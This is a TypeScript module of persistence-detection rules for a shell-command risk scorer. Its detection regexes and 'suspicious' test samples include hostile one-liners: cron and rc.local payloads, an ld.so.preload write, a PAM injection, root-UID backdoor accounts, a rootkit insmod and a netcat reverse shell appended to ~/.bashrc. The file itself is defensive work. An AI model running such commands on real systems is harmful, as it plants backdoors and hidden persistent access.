import { posix } from 'node:path';
import type { Program } from '../shell.ts';
import { hasOption, operands, optionValue, type Rule } from './rule.ts';
import { copied, isAmong, normalised, written, writtenInline, type Files } from './paths.ts';

/** Files whose content runs by itself later. */
const startup: Files = {
  pattern: new RegExp(
    [
      String.raw`^/etc/(cron[^/]*|anacrontab|rc\.local|rc\.common|ld\.so\.preload|profile|profile\.d|bash\.bashrc|bashrc|zshenv|zshrc|pam\.d|pam\.conf|update-motd\.d|inittab)(/|$)`,
      String.raw`^/etc/(rc\d?\.d|init\.d|init)/.`,
      String.raw`^/var/spool/(cron|at)(/|$)`,
      String.raw`^~/\.config/autostart/`,
      String.raw`^/(Library|System/Library)/Launch(Agents|Daemons)/|^~/Library/LaunchAgents/`,
    ].join('|'),
  ),
  known: ['/etc/crontab', '/etc/ld.so.preload', '/etc/rc.local', '/etc/profile'],
};

/** Units and udev rules: operators write them too, so only content given on the line or brought from a shared folder counts. */
const units = /^(\/etc|\/lib|\/usr\/lib|\/run)\/(systemd\/(system|user)|udev\/rules\.d)\/.|^~\/\.config\/systemd\/user\//;
const profiles =
  /^~\/\.(bashrc|bash_profile|bash_login|bash_logout|bash_aliases|profile|shrc|zshrc|zshenv|zprofile|zlogin|zlogout|kshrc|cshrc|tcshrc|login|logout|xprofile|xinitrc|xsessionrc|config\/fish\/config\.fish)$/;
const shared = /^(\/tmp|\/var\/tmp|\/dev\/shm)(\/|$)/;

/** What people usually put into a profile: a variable, an alias, a file to load, a tool's own set-up line. */
const everyday =
  /^\s*(#|$|(export\s+)?(?!LD_|PROMPT_COMMAND|BASH_ENV|ENV=)[A-Za-z_]\w*\+?=|alias\s+(?!sudo|su\b|ssh|ls=|cd=)|unalias\s|source\s+(?!\/tmp|\/dev)|\.\s+(?!\/tmp|\/dev)|eval\s+"?\$\(|set\s|setopt\s|shopt\s|umask\s|bindkey\s|complete\s|autoload\s|fpath|PATH=|\[+ )/;

function addsToProfile(program: Program): boolean {
  if (!writtenInline(program).some((path) => profiles.test(path))) return false;
  const text = program.name === 'echo' || program.name === 'printf' ? operands(program).join(' ') : program.input;
  return text !== null && !everyday.test(text);
}

const privilegedIds = new Set(['0', 'root']);

export const persistence: readonly Rule[] = [
  {
    code: 'STARTUP_CHANGE',
    tactic: 'PERSISTENCE',
    points: 30,
    find(program) {
      const path =
        written(program).find((candidate) => isAmong(candidate, startup)) ??
        writtenInline(program).find((candidate) => units.test(candidate)) ??
        copied(program).to.find((candidate) => units.test(`${candidate}/x`) && copied(program).from.some((from) => shared.test(from)));
      if (path !== undefined) return `changes what runs by itself: ${path.slice(0, 80)}`;
      return addsToProfile(program) ? 'adds a command to a shell profile' : null;
    },
    suspicious: [
      'echo "* * * * * root sh /tmp/x" >> /etc/crontab',
      'cp job /etc/cron.d/',
      'echo x | sudo tee -a /etc/rc.local',
      'sudo sh -c "echo /tmp/x.so > /etc/ld.so.preload"',
      'echo "[Service]" >> /etc/systemd/system/x.service',
      'cp /tmp/x.service /etc/systemd/system/',
      'echo "nc -e /bin/sh h 1" >> ~/.bashrc',
      'sed -i "1i auth sufficient x.so" /etc/pam.d/sshd',
      'vim /etc/crontab',
    ],
    harmless: [
      'crontab -l',
      'cat /etc/crontab',
      'mkdir -p /etc/systemd/system/x.service.d',
      'cp app.service /etc/systemd/system/',
      'echo "export PATH=$PATH:/opt/bin" >> ~/.bashrc',
      'echo "alias ll=\'ls -l\'" >> ~/.zshrc',
      'ls /etc/cron.d',
      'systemctl enable nginx',
      'vim ~/.bashrc',
    ],
  },
  {
    code: 'CRONTAB_FROM_PIPE',
    tactic: 'PERSISTENCE',
    points: 30,
    find(program) {
      const fromInput =
        program.name === 'crontab' &&
        (program.pipedFrom !== null || program.input !== null || program.redirects.some(({ operator }) => operator === '<'));
      return fromInput && !hasOption(program, 'leri') ? 'sets scheduled jobs from the command line' : null;
    },
    suspicious: [
      'echo "* * * * * /tmp/x" | crontab -',
      '(crontab -l; echo "@reboot /tmp/x") | crontab -',
      'crontab - <<< "* * * * * x"',
      'echo x | sudo crontab -u root -',
    ],
    harmless: ['crontab -l', 'crontab -e', 'crontab jobs.txt', 'crontab -l | grep x', 'echo y | crontab -r -i'],
  },
  {
    code: 'BACKDOOR_ACCOUNT',
    tactic: 'PERSISTENCE',
    points: 30,
    find(program) {
      if (!['useradd', 'usermod', 'adduser', 'pw'].includes(program.name)) return null;
      const ids = [optionValue(program, '-u', '--uid'), optionValue(program, '-g', '--gid')];
      const root =
        ids.some((id) => id !== null && privilegedIds.has(id)) ||
        normalised(optionValue(program, '-d', '--home', '--home-dir') ?? '', null) === '/root';
      const loginShell = /\/\w*sh$/.test(optionValue(program, '-s', '--shell') ?? '');
      if (program.name === 'useradd' && hasOption(program, 'r', '--system') && loginShell) return 'lets people sign in to a system account';
      return root || (program.name === 'pw' && optionValue(program, '-g') === 'wheel') ? 'gives an account the rights of root' : null;
    },
    suspicious: [
      'useradd -o -u 0 -g 0 toor',
      'usermod -u 0 -o bob',
      'useradd -g 0 -M -d /root bob',
      'pw useradd bob -g wheel',
      'useradd -r -s /bin/bash svc',
    ],
    harmless: [
      'useradd -m bob',
      'useradd -u 1001 bob',
      'useradd -r -s /usr/sbin/nologin svc',
      'usermod -aG docker bob',
      'usermod -g staff bob',
    ],
  },
  {
    code: 'PASSWORD_FROM_SCRIPT',
    tactic: 'PERSISTENCE',
    points: 30,
    find(program) {
      const piped = program.pipedFrom !== null || program.input !== null;
      if (program.name === 'passwd' && (program.args.includes('--stdin') || (piped && operands(program).length > 0)))
        return 'sets a password without a person typing it';
      if (['usermod', 'useradd'].includes(program.name) && optionValue(program, '-p', '--password') !== null)
        return 'sets a password on the command line';
      return null;
    },
    suspicious: [
      'echo secret | passwd --stdin bob',
      '(echo a; echo a) | passwd bob',
      'usermod --password "$(openssl passwd -1 x)" bob',
      'useradd -p hash bob',
    ],
    harmless: ['passwd', 'passwd bob', 'sudo passwd -l bob', 'usermod -L bob', 'man 5 passwd', 'openssl passwd -6'],
  },
  {
    code: 'UNSAFE_PROGRAM_PATH',
    tactic: 'PERSISTENCE',
    points: 30,
    find(program) {
      const run = normalised(program.path, program.directory);
      // `find -exec` mostly tries a script somebody is writing out on files.
      if (shared.test(run) && !program.via.includes('find'))
        return `runs ${posix.basename(run).slice(0, 40)} from a folder everybody can write to`;
      const loads =
        ['insmod', 'kldload'].includes(program.name) && operands(program).some((word) => shared.test(normalised(word, program.directory)));
      return loads || /\/\.{3,}\//.test(program.path) ? 'runs code from a hidden or shared folder' : null;
    },
    suspicious: ['/tmp/x', 'sudo /dev/shm/agent -d', 'cp x /tmp/y && /tmp/y', 'insmod /tmp/rootkit.ko', '$HOME/.../sh', 'cd /tmp; ./x'],
    harmless: ['ls /tmp/x', './build/x', '/usr/bin/tmp', 'insmod driver.ko', 'cat /tmp/x', 'sh build.sh'],
  },
];
